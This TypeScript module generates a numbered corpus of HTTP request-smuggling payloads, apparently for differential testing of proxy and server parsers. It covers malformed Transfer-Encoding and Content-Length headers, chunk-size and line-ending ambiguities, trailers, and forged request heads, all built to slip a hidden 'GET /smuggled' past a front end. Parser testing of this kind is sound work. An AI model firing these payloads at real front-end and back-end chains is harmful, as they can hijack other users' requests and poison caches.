/**
 * Requests that two readers may read differently, so that one of them takes a part of the body for the next request: known
 * shapes of request smuggling. Whoever reads that part as a request sees `GET /smuggled`, with the next client's request in
 * one of its headers.
 */

export interface Shape {
  /** Each target in its bytes has this number as its query, so that a request tells where it comes from. */
  readonly number: string;
  readonly name: string;
  readonly bytes: string;
}

/** Where the number of a shape stands. */
const NUMBER = "####";

/** What is smuggled: the start of a request that swallows the line of the request after it, and takes its headers. */
const PREFIX = `GET /smuggled?${NUMBER} HTTP/1.1\r\nX-Swallowed: `;
/** A whole request that claims to come from the proxy. */
const FORGED = `GET /smuggled?${NUMBER} HTTP/1.1\r\nHost: a\r\nX-Forwarded-As: 0 0 GET /smuggled?${NUMBER}\r\n\r\n`;

function head(path: string, ...lines: string[]): string {
  return [`POST ${path}?${NUMBER} HTTP/1.1`, "Host: a", ...lines, "", ""].join("\r\n");
}

function hex(text: string): string {
  return text.length.toString(16);
}

/** A chunked body that ends at once, followed by what is smuggled. */
const ENDED = `0\r\n\r\n${PREFIX}`;
/** A chunked body of one chunk, which is what is smuggled, for readers that see the first line as a body. */
const HIDDEN_START = `${hex(PREFIX)}\r\n`;
const HIDDEN = `${HIDDEN_START}${PREFIX}\r\n0\r\n\r\n`;

/** Lines that some readers take for `Transfer-Encoding: chunked`, and others do not. */
const CODINGS: readonly string[] = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding:chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding:  chunked  ",
  "transfer-encoding: CHUNKED",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding\t: chunked",
  "Transfer-Encoding\x0b: chunked",
  "Transfer-Encoding\x00: chunked",
  "Transfer-Encoding\xa0: chunked",
  "Transfer-Encoding\r\n: chunked",
  "Transfer_Encoding: chunked",
  "Transfer.Encoding: chunked",
  " Transfer-Encoding: chunked",
  "\tTransfer-Encoding: chunked",
  "\x00Transfer-Encoding: chunked",
  ": chunked\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: \x0cchunked",
  "Transfer-Encoding: \x00chunked",
  "Transfer-Encoding: \x7fchunked",
  "Transfer-Encoding: \xa0chunked",
  "Transfer-Encoding: \x85chunked",
  "Transfer-Encoding: \xffchunked",
  "Transfer-Encoding: chunked\x0b",
  "Transfer-Encoding: chunked\x00",
  "Transfer-Encoding: chunked\xa0",
  "Transfer-Encoding: chunked\r",
  "Transfer-Encoding: chunked\rX: y",
  "Transfer-Encoding: chun\xe2\x84\xaaed",
  "Transfer-Encoding: \r\n chunked",
  "Transfer-Encoding: chunked\r\n ",
  "Transfer-Encoding: x\r\n , chunked",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunkedx",
  "Transfer-Encoding: chunk",
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding: chunked; a=b",
  "Transfer-Encoding: chunked,",
  "Transfer-Encoding: ,chunked",
  "Transfer-Encoding: chunked, chunked",
  "Transfer-Encoding: chunked chunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: chunked, gzip",
  "Transfer-Encoding: identity",
  "Transfer-Encoding:",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
  "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding:",
  "Transfer-Encoding:\r\nTransfer-Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "X: y\r\rTransfer-Encoding: chunked",
  "X: y\x00Transfer-Encoding: chunked",
  "X: y\r\n\rTransfer-Encoding: chunked",
  "Connection: close, Transfer-Encoding\r\nTransfer-Encoding: chunked",
  "Connection: Content-Length\r\nTransfer-Encoding: chunked",
];

/** Lines that some readers take for this length, and others do not. */
function lengths(length: number): string[] {
  return [
    `Content-Length: +${length}`,
    `Content-Length: 0${length}`,
    `Content-Length: 0x${length.toString(16)}`,
    `Content-Length: ${length}.0`,
    `Content-Length: ${length}e0`,
    `Content-Length: ${length} `,
    `Content-Length: ${length};`,
    `Content-Length: ${length} 0`,
    `Content-Length: "${length}"`,
    `Content-Length: \x0b${length}`,
    `Content-Length: \xa0${length}`,
    `Content-Length: ${length}\x00`,
    `Content-Length: ${length}\r`,
    `Content-Length: \r\n ${length}`,
    `Content-Length: 0\r\n ${length}`,
    `Content-Length: ${length}, ${length}`,
    `Content-Length: 0, ${length}`,
    `Content-Length: ${length}, 0`,
    `Content-Length: ,${length}`,
    `Content-Length: ${length}\r\nContent-Length: ${length}`,
    `Content-Length: 0\r\nContent-Length: ${length}`,
    `Content-Length: ${length}\r\nContent-Length: 0`,
    `Content-Length:\r\nContent-Length: ${length}`,
    `Content-Length : ${length}`,
    ` Content-Length: ${length}`,
    `Content_Length: ${length}`,
    `Content-Length\x00: ${length}`,
    `Content-Length\r\n: ${length}`,
    `X: y\nContent-Length: ${length}`,
    `X: y\rContent-Length: ${length}`,
    `X: y\r\n\rContent-Length: ${length}`,
    `Content-Length: ${2n ** 64n + BigInt(length)}`,
    `Content-Length: ${2n ** 32n + BigInt(length)}`,
    `Content-Length: -${length}`,
    "Content-Length: 99999999999999999999999",
    `Connection: Content-Length\r\nContent-Length: ${length}`,
  ];
}

/** Ends of a line that some readers take for one, and others do not. */
const LINE_ENDS: readonly string[] = ["\n", "\r", "\r\r", "\r\x00", "\n\r", "\x0b", "\x00", "\x85", " \n", "\r\r\n"];

/** Chunk sizes that some readers take for 5, and others do not. */
const FIVES: readonly string[] = [
  "05",
  "0000000000000000000005",
  "0x5",
  "+5",
  "-5",
  " 5",
  "\t5",
  "5 ",
  "5\t",
  "5 ;a",
  "5; a=b",
  "5;a =b",
  "5;",
  "5;;",
  "5;=",
  "5;a=",
  '5;a="',
  '5;a="\\"',
  '5;a="b"c',
  "5,",
  "5\x00",
  "5\x0b",
  "5_0",
  "5.0",
  "5g",
  "100000005",
  "10000000000000005",
  "FFFFFFFFFFFFFFFF",
  "80000000000000005",
  "",
  ";",
  "g",
];

/** Last chunks, trailers and what comes after them. */
const TRAILERS: readonly string[] = [
  "0\r\n\n",
  "0\n\r\n",
  "0\n\n",
  "0\r\r",
  "0\r\n\r",
  "0\r\n\rX",
  "0\r\nX: y\n\n",
  "0\r\nX: y\n\r\n",
  "0\r\nX: y\r\n\n",
  "0\r\nX: y\rZ: z\r\n\r\n",
  "0\r\n X: y\r\n\r\n",
  "0\r\nX : y\r\n\r\n",
  "0\r\nX: y\r\n z\r\n\r\n",
  "0\r\nX\r\n\r\n",
  "0\r\n: y\r\n\r\n",
  "0\r\nX: \x00\r\n\r\n",
  "0\r\nContent-Length: 50\r\n\r\n",
  "0\r\nTransfer-Encoding: chunked\r\n\r\n",
  "0\r\nHost: b\r\n\r\n",
  "0\r\nX-Forwarded-As: 0 0 GET /smuggled\r\n\r\n",
  "0\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
  "00\r\n\r\n",
  "0;a\r\n\r\n",
  "0;\n\r\n\r\n",
  "0 \r\n\r\n",
  "-0\r\n\r\n",
  "0\r\n0\r\n\r\n",
];

/** Targets, versions and hosts that name another resource to one reader than to the other. */
const HEADS: readonly string[] = [
  "GET http://b/other HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET http://b/other HTTP/1.1\r\nHost: b\r\n\r\n",
  "GET http://a@b/other HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET http://a#@b/other HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET http:///other HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET http:other HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET https://a/other HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET //b/other HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET @b/other HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET b:80 HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET * HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET /other HTTP/1.1\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost:\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost: a\r\nHost: a\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost: a, b\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost: a b\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost: a/smuggled\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost: a@b\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost: a:x\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost : a\r\n\r\n",
  "GET /other HTTP/1.1\r\n Host: a\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost: a\r\n Host: b\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost: a\nHost: b\r\n\r\n",
  "GET /other HTTP/1.1\r\nX: y\rHost: b\r\nHost: a\r\n\r\n",
  "GET /other HTTP/1.1 /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET /other /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET /other\tHTTP/1.1\r\nHost: a\r\n\r\n",
  "GET\t/other HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET  /other HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET /other  HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET /other HTTP/1.1 \r\nHost: a\r\n\r\n",
  "GET /other\x00 HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET /other\x0b/smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET /other\r/smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET /other#/smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET /other\xff HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET /other HTTP/1.1\nHost: a\r\n\r\n",
  "GET /other HTTP/1.1\rHost: a\r\n\r\n",
  "GET /other HTTP/1.2\r\nHost: a\r\n\r\n",
  "GET /other HTTP/1.01\r\nHost: a\r\n\r\n",
  "GET /other HTTP/01.1\r\nHost: a\r\n\r\n",
  "GET /other HTTP/2.0\r\nHost: a\r\n\r\n",
  "GET /other http/1.1\r\nHost: a\r\n\r\n",
  "GET /other\r\n\r\n",
  "GET /other HTTP/1.1\r\n\nHost: a\r\n\r\n",
  "G\x00ET /other HTTP/1.1\r\nHost: a\r\n\r\n",
  "\r\n\r\nGET /other HTTP/1.1\r\nHost: a\r\n\r\n",
  "\nGET /other HTTP/1.1\r\nHost: a\r\n\r\n",
  " GET /other HTTP/1.1\r\nHost: a\r\n\r\n",
  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  "CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n",
  "OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: nf6dB8Pb/BLinZ7UexUXHg==\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost: a\r\nConnection: X-Forwarded-As\r\n\r\n",
  "GET /other HTTP/1.1\r\nHost: a\r\nConnection: Host\r\n\r\n",
];

/** Expectations, together with a body that the app may never read. */
const EXPECTATIONS: readonly string[] = [
  "Expect: 100-continue",
  "Expect: 100-Continue",
  "Expect: 100-continue\r\nExpect: 100-continue",
  "Expect: y 100-continue",
  "Expect: 100-continue, x",
  "Expect:\r\n 100-continue",
  "Expect : 100-continue",
  " Expect: 100-continue",
  "X: y\nExpect: 100-continue",
  "Expect: 100-continue\x00",
  "Expect: x",
  "Expect:",
];

function* shapes(): Generator<[group: string, detail: string, bytes: string]> {
  for (const coding of CODINGS) {
    yield ["CL.TE", coding, head("/read", `Content-Length: ${ENDED.length}`, coding) + ENDED];
    yield ["TE.CL", coding, head("/read", coding, `Content-Length: ${HIDDEN_START.length}`) + HIDDEN];
    yield ["TE.0", coding, head("/read", coding) + HIDDEN];
    yield ["TE.0 without a body", coding, head("/unread", coding)];
    yield ["TE.TE", coding, head("/unread", "Transfer-Encoding: chunked", coding) + ENDED];
    yield [
      "CL.TE in 1.0",
      coding,
      `POST /read?${NUMBER} HTTP/1.0\r\nConnection: keep-alive\r\n${coding}\r\n\r\n${ENDED}`,
    ];
  }
  for (const line of lengths(PREFIX.length)) {
    yield ["0.CL", line, head("/read", line) + PREFIX];
    yield ["CL.0", line, head("/unread", line) + PREFIX];
    yield ["CL.0 without a body", line, head("/unread", line)];
    yield ["CL.CL", line, head("/read", line, "Content-Length: 0") + PREFIX];
    yield ["TE.CL", line, head("/read", line, "Transfer-Encoding: chunked") + ENDED];
  }
  for (const method of ["GET", "HEAD", "OPTIONS", "DELETE", "TRACE", "CONNECT", "get", "FOO"]) {
    for (const body of [PREFIX, FORGED]) {
      const lines = `Host: a\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
      yield [`CL.0 with ${method}`, body.slice(0, 40), `${method} /unread?${NUMBER} HTTP/1.1\r\n${lines}`];
    }
    yield [`TE.0 with ${method}`, "", head("/unread", "Transfer-Encoding: chunked").replace("POST", method) + HIDDEN];
  }
  for (const end of LINE_ENDS) {
    yield ["end of a head", end, `POST /read?${NUMBER} HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n${end}${PREFIX}`];
    yield ["end of a head", end, `POST /read?${NUMBER} HTTP/1.1\r\nHost: a\r\nContent-Length: 0${end}${end}${PREFIX}`];
    yield ["end of a line", end, head("/read", `X: y${end}Content-Length: ${PREFIX.length}`) + PREFIX];
    yield ["end of a line", end, head("/read", `X: y${end}Transfer-Encoding: chunked`) + HIDDEN];
    const chunked = head("/read", "Transfer-Encoding: chunked");
    // Whether the extension goes on after its line end decides which of the chunks that follow are data.
    const inner = `xx\r\n${hex(ENDED)}\r\n${ENDED}\r\n0\r\n\r\n`;
    yield ["TERM.EXT", end, `${chunked}2;${end}${inner}`];
    yield ["EXT.TERM", end, `${chunked}2${end}${inner}`];
    yield ["TERM.EXT, last chunk", end, `${chunked}0;${end}${inner}`];
    const quoted = `${chunked}2;a="${end}"\r\nxx\r\n0\r\n\r\n${PREFIX}`;
    yield ["TERM.EXT, quoted", end, quoted];
    // Whether the end of a chunk is as long as it should be decides where the next size stands.
    yield ["SPILL.TERM", end, `${chunked}5\r\nhello${end}${hex(ENDED)}\r\n${ENDED}\r\n0\r\n\r\n`];
    yield ["TERM.SPILL", end, `${chunked}5\r\nhello${end}0\r\n\r\n${PREFIX}`];
    yield ["ONE.TWO", end, `${chunked}5${end}hello\r\n0\r\n\r\n${PREFIX}`];
  }
  for (const end of ["xx", "\r\n\r\n", "", "0\r\n", "\nx"]) {
    const chunked = head("/read", "Transfer-Encoding: chunked");
    yield ["end of a chunk", end, `${chunked}5\r\nhello${end}${hex(ENDED)}\r\n${ENDED}\r\n0\r\n\r\n`];
  }
  for (const size of FIVES) {
    const chunked = head("/read", "Transfer-Encoding: chunked");
    yield ["size of a chunk", size, `${chunked}${size}\r\nhello\r\n0\r\n\r\n${PREFIX}`];
    yield ["size of a chunk", size, `${chunked}${size}\r\n\r\n${PREFIX}`];
  }
  for (const trailer of TRAILERS) {
    const chunked = head("/read", "Transfer-Encoding: chunked");
    yield ["trailer", trailer, `${chunked}5\r\nhello\r\n${trailer}${PREFIX}`];
    yield ["trailer", trailer, `${chunked}${trailer}${FORGED}`];
  }
  for (const target of HEADS) {
    const line = target.replace("/other", `/other?${NUMBER}`);
    yield ["head", line, line];
    yield ["head and more", line, line + PREFIX];
    yield [
      "head with a body",
      line,
      line.replace(/\r\n\r\n$/, `\r\nContent-Length: ${PREFIX.length}\r\n\r\n`) + PREFIX,
    ];
  }
  for (const line of EXPECTATIONS) {
    for (const path of ["/read", "/unread"]) {
      for (const method of ["GET", "POST", "HEAD"]) {
        const start = head(path, line).replace("POST", method).slice(0, -2);
        yield [`Expect of ${method} ${path}`, line, `${start}Content-Length: ${PREFIX.length}\r\n\r\n${PREFIX}`];
        yield [`Expect of ${method} ${path}, chunked`, line, `${start}Transfer-Encoding: chunked\r\n\r\n${HIDDEN}`];
      }
    }
  }
}

/** All shapes, each once. */
export const SHAPES: readonly Shape[] = [
  ...new Map([...shapes()].map(([group, detail, bytes]) => [bytes, `${group}: ${JSON.stringify(detail)}`])),
].map(([bytes, name], index) => {
  const number = String(index).padStart(NUMBER.length, "0");
  return { number, name, bytes: bytes.replaceAll(NUMBER, number) };
});
